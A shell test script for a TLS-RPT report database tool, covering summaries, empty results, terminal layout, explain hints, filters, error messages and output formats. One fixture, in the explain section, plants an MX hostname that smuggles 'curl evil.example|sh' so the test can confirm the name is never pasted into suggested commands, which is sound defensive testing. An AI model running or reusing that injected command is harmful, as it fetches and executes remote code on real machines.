# t-firsthour.sh - an administrator's first hour (issue 16): missing days, empty results, text
# that fits a terminal, explain's hints, filters that do what they look like, errors that say what
# to do, and the formats for scripts
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/query-lib.sh"

db=$(newdb)
for f in "$SAMPLES"/*.eml; do ingest "$db" "$f"; done
Q="query --db $db"
# tty CMD... : run CMD on a terminal (a pty made by script(1)), 80 columns; sets $out
tty () {
  out=$(COLUMNS=${COLS:-80} script -qec "$(printf '%q ' "$@")" /dev/null | tr -d '\r')
}

# --- missing reports are visible -------------------------------------------------------------------
# shellcheck disable=SC2086
q $Q summary --by day --since 2026-11-15 --until 2026-11-25 --format csv
is "--by day: every day of the range, one row each" "$(printf '%s\n' "$out" | tail -n +2 | cut -d, -f1 | sort -u | wc -l)" "11"
is "--by day: a day without a report is shown as such" \
  "$(printf '%s\n' "$out" | tr -d '\r' | grep '^2026-11-16,')" "2026-11-16,,,,0,,"
# shellcheck disable=SC2086
q $Q summary --by day --since 2026-11-20 --until 2026-11-21 --domain example.org --format json
if [ -n "$HAVE_PYTHON" ]; then
  is "--by day json: the empty day has null sessions and 0 reports" "$(printf '%s' "$out" | python3 -c '
import json, sys
print([(r["day"], r["successful"], r["failed"], r["reports"]) for r in json.load(sys.stdin)["rows"]])')" \
    "[('2026-11-21', 17, 0, 1), ('2026-11-20', None, None, 0)]"
fi
# shellcheck disable=SC2086
q $Q summary --by reporter --since 2026-11-01 --format csv
is "--by reporter: first and last day, and days with a report" \
  "$(printf '%s\n' "$out" | tr -d '\r' | grep '^microsoft.example,' | cut -d, -f1,7-9 | sort -u)" \
  "microsoft.example,2026-11-19,2026-11-21,2"
# shellcheck disable=SC2086
q $Q reports --since 2027-01-01 --until 2027-01-31
is "an empty result: nothing on stdout, exit 0" "$status:$out" "0:"
is "an empty result: a line on stderr says which range" "$err" \
  "tlsrptdb query: warning: no reports between 2027-01-01 and 2027-01-31"
# shellcheck disable=SC2086
q $Q failures --since 2026-11-01 --domain nothing.example --format csv
is "an empty CSV result: the header alone, nothing on stderr" "$(printf '%s\n' "$out" | wc -l):$err" "1:"

# --- text that fits ---------------------------------------------------------------------------------
# shellcheck disable=SC2086
tty "$TLSRPTDB" $Q failures
is "80 columns: the result type is never cut" "$(printf '%s\n' "$out" | grep -c 'certificate-host-mismatch ')" "2"
is "80 columns: no line of the table is longer" \
  "$(printf '%s\n' "$out" | grep -e '^DAY' -e '^20' | awk 'length($0) > 80' | wc -l)" "0"
is "80 columns: a note says which columns were left out" \
  "$(printf '%s\n' "$out" | grep -c '^Left out to fit the terminal: .*REASON.*--wide')" "1"
is "on a terminal: the result types explained after the listing" \
  "$(printf '%s\n' "$out" | grep -c '^Result types (tlsrptdb explain TYPE tells more):')" "1"
# shellcheck disable=SC2086
tty "$TLSRPTDB" $Q failures --wide
is "--wide: every column, in full" "$(printf '%s\n' "$out" | grep -c 'X509_V_ERR_UNABLE_TO_GET_ISSUER_CERT_LOCALLY')" "1"
# shellcheck disable=SC2086
q $Q failures
is "not a terminal: no notes, every column" \
  "$(printf '%s\n' "$out" | grep -c -e '^Result types' -e 'Left out')$(printf '%s\n' "$out" | grep -c X509_V_ERR)" "01"

# --- explain --------------------------------------------------------------------------------------
q explain certificate-expird
is "explain: a typo is a usage error (64) that suggests the type" \
  "$status:$(printf '%s' "$err" | grep -c 'did you mean certificate-expired?')" "64:1"
q explain x-brand-new-type
is "explain: a type far from any known one is explained as unknown" "$status" 0
q explain --db "$db" certificate-host-mismatch
is "explain with a database: the commands name the MX that had the failure" \
  "$(printf '%s\n' "$out" | grep -c 'openssl s_client -starttls smtp -connect in2.mail.example.com:25 ')" "2"
is "explain with a database: where it was seen" \
  "$(printf '%s\n' "$out" | grep -E '^  (MX hosts|Domains):' | tr -s ' ')" \
  "$(printf '  MX hosts: in2.mail.example.com 3, mx2.example.org 1\n  Domains: example.com 3, example.org 1' | tr -s ' ')"
hdb=$(newdb)
printf '{"organization-name":"Evil","date-range":{"start-datetime":"%sT00:00:00Z","end-datetime":"%sT23:59:59Z"},"contact-info":"x@evil.example","report-id":"e1","policies":[{"policy":{"policy-type":"sts","policy-domain":"evil.example"},"summary":{"total-successful-session-count":0,"total-failure-session-count":9},"failure-details":[{"result-type":"certificate-expired","receiving-mx-hostname":"mx;curl evil.example|sh","failed-session-count":9}]}]}' \
  "$(date -u -d '2 days ago' +%F)" "$(date -u -d '2 days ago' +%F)" >"$TESTTMP/evil.json"
ingest "$hdb" "$TESTTMP/evil.json"
q explain --db "$hdb" certificate-expired
is "explain: a hostile MX name is shown, never pasted into the commands" \
  "$(printf '%s\n' "$out" | grep -c 'connect MX:25')$(printf '%s\n' "$out" | grep -c 'connect mx;')" "10"

# --- filters that do what they look like ----------------------------------------------------------
# shellcheck disable=SC2086
{
  a=$("$TLSRPTDB" $Q summary --since 2026-11-01 --domain example.com --format csv)
  b=$("$TLSRPTDB" $Q summary --since 2026-11-01 --domain EXAMPLE.COM. --format csv)
  is "--domain: case and a trailing dot do not matter" "$b" "$a"
  q $Q summary --since 2026-11-01 --domain '*.example.org' --format csv
  is "--domain *.example.org: the domains under it, not example.org" \
    "$(printf '%s\n' "$out" | tail -n +2 | cut -d, -f1 | sort -u | tr '\n' ' ')" "mx1.example.org sub.example.org "
  q $Q failures --since 2026-11-01 --mx '*.mail.example.com' --format csv
  is "--mx *.mail.example.com: the MX hosts under it" \
    "$(printf '%s\n' "$out" | tail -n +2 | cut -d, -f7 | sort -u | tr '\n' ' ')" "in1.mail.example.com in2.mail.example.com "
  q $Q reports --since 2026-11-01 --reporter 'Google Inc.' --format csv
  is "--reporter: an organization name, as sent" "$(printf '%s\n' "$out" | tail -n +2 | cut -d, -f3)" "google.example"
  q $Q reports --since 2026-11-01 --reporter GOOGLE.example --format csv
  is "--reporter: the key, any case" "$(printf '%s\n' "$out" | tail -n +2 | cut -d, -f3)" "google.example"
  q $Q reports --since 2026-11-01 --reporter goggle.example
  is "--reporter that matches nothing: exit 0, a hint with the known keys" \
    "$status:$(printf '%s' "$err" | grep -c 'goggle.example matches nothing.*the reporters are corp.mail.example, google.example')" "0:1"
  q $Q summary --since 2026-11-20 --until 2026-11-10
  is "--since after --until: 64" "$status:$(printf '%s' "$err" | grep -c 'is after --until')" "64:1"
  q $Q summary --since 2026-11-01 --authenticated
  is "--authenticated without trusted-authserv-id: a warning" \
    "$(printf '%s' "$err" | grep -c 'no trusted-authserv-id is configured')" "1"
}

# --- errors that say what to do -------------------------------------------------------------------
q help query summary
is "help query summary: query's options" "$status:$(printf '%s' "$out" | grep -c -e '--by' -e '--since')" "0:2"
# shellcheck disable=SC2086
q $Q --since 2026-11-01 --format csv
is "query alone: the summary" "$out" "$("$TLSRPTDB" $Q summary --since 2026-11-01 --format csv)"
# shellcheck disable=SC2086
q QUERY --db "$db" summary --since 2026-11-01 --format JSON
is "command names and --format values in any case" "$status:$(printf '%s' "$out" | head -c 11)" '0:{"version":'
q version
is "version" "$status:$out" "0:tlsrptdb $(printf '%s' "$("$TLSRPTDB" --version)" | cut -d' ' -f2)"
q -V
is "-V" "$status" 0
q show --db "$db" 1 2
is "show 1 2: says what it expected" "$status:$err" "64:tlsrptdb show: expected one REPORT-ID|ROW, got 2 arguments"
q prune --db "$db" --older-than "$(date -u -d '+3 days' +%F)"
is "prune --older-than a future day: refused without --force" \
  "$status:$(printf '%s' "$err" | grep -c 'add --force')$(sql "$db" "SELECT count(*) FROM reports")" "64:17"
if [ "$(id -u)" = 0 ] && command -v runuser >/dev/null; then
  pdir=$TESTTMP/perm
  mkdir -p "$pdir/d" "$pdir/ro"
  cp "$db" "$pdir/d/r.db"
  chmod 755 "$TESTTMP" "$pdir" "$pdir/d"
  chmod 600 "$pdir/d/r.db"
  err=$(runuser -u nobody -- "$TLSRPTDB" query --db "$pdir/d/r.db" 2>&1 >/dev/null)
  is "unreadable database: the user and the file's mode and owner" "$err" \
    "tlsrptdb query: $pdir/d/r.db: permission denied: user nobody may not read it (mode 0600, owner root:root)"
  chmod 700 "$pdir/d"
  err=$(runuser -u nobody -- "$TLSRPTDB" query --db "$pdir/d/r.db" 2>&1 >/dev/null)
  is "a directory that cannot be searched: said so, not \"no such database\"" "$err" \
    "tlsrptdb query: $pdir/d/r.db: permission denied: user nobody cannot search a directory on the way to it"
  chmod 555 "$pdir/ro"
  err=$(runuser -u nobody -- "$TLSRPTDB" ingest --db "$pdir/ro/new.db" <"$SAMPLES/google.eml" 2>&1 >/dev/null)
  is "ingest into a directory it cannot write: names the directory and the user" "$err" \
    "tlsrptdb ingest: $pdir/ro/new.db: permission denied: user nobody may not create files in $pdir/ro (mode 0555, owner root:root), where the database and its -wal and -shm files live"
  chmod 700 "$TESTTMP"
else
  echo "ok # SKIP permission messages: needs root (to act as nobody)"
fi

# --- formats for scripts --------------------------------------------------------------------------
# shellcheck disable=SC2086
q $Q summary --since 2026-11-01 --domain example.org --format csv
is "summary csv: a row per group and result type" "$(printf '%s\n' "$out" | tr -d '\r')" \
  "policy_domain,successful,failed,failure_rate,reports,result_type,result_type_sessions
example.org,31,2,0.0606,3,certificate-host-mismatch,1
example.org,31,2,0.0606,3,starttls-not-supported,1"
q show --db "$db" 1 --format json
is "show json: version 2, flags are true/false" \
  "$(printf '%s' "$out" | grep -o -e '"version":2' -e '"report_id_synthesized":false' | tr '\n' ' ')" \
  '"version":2 "report_id_synthesized":false '
done_testing
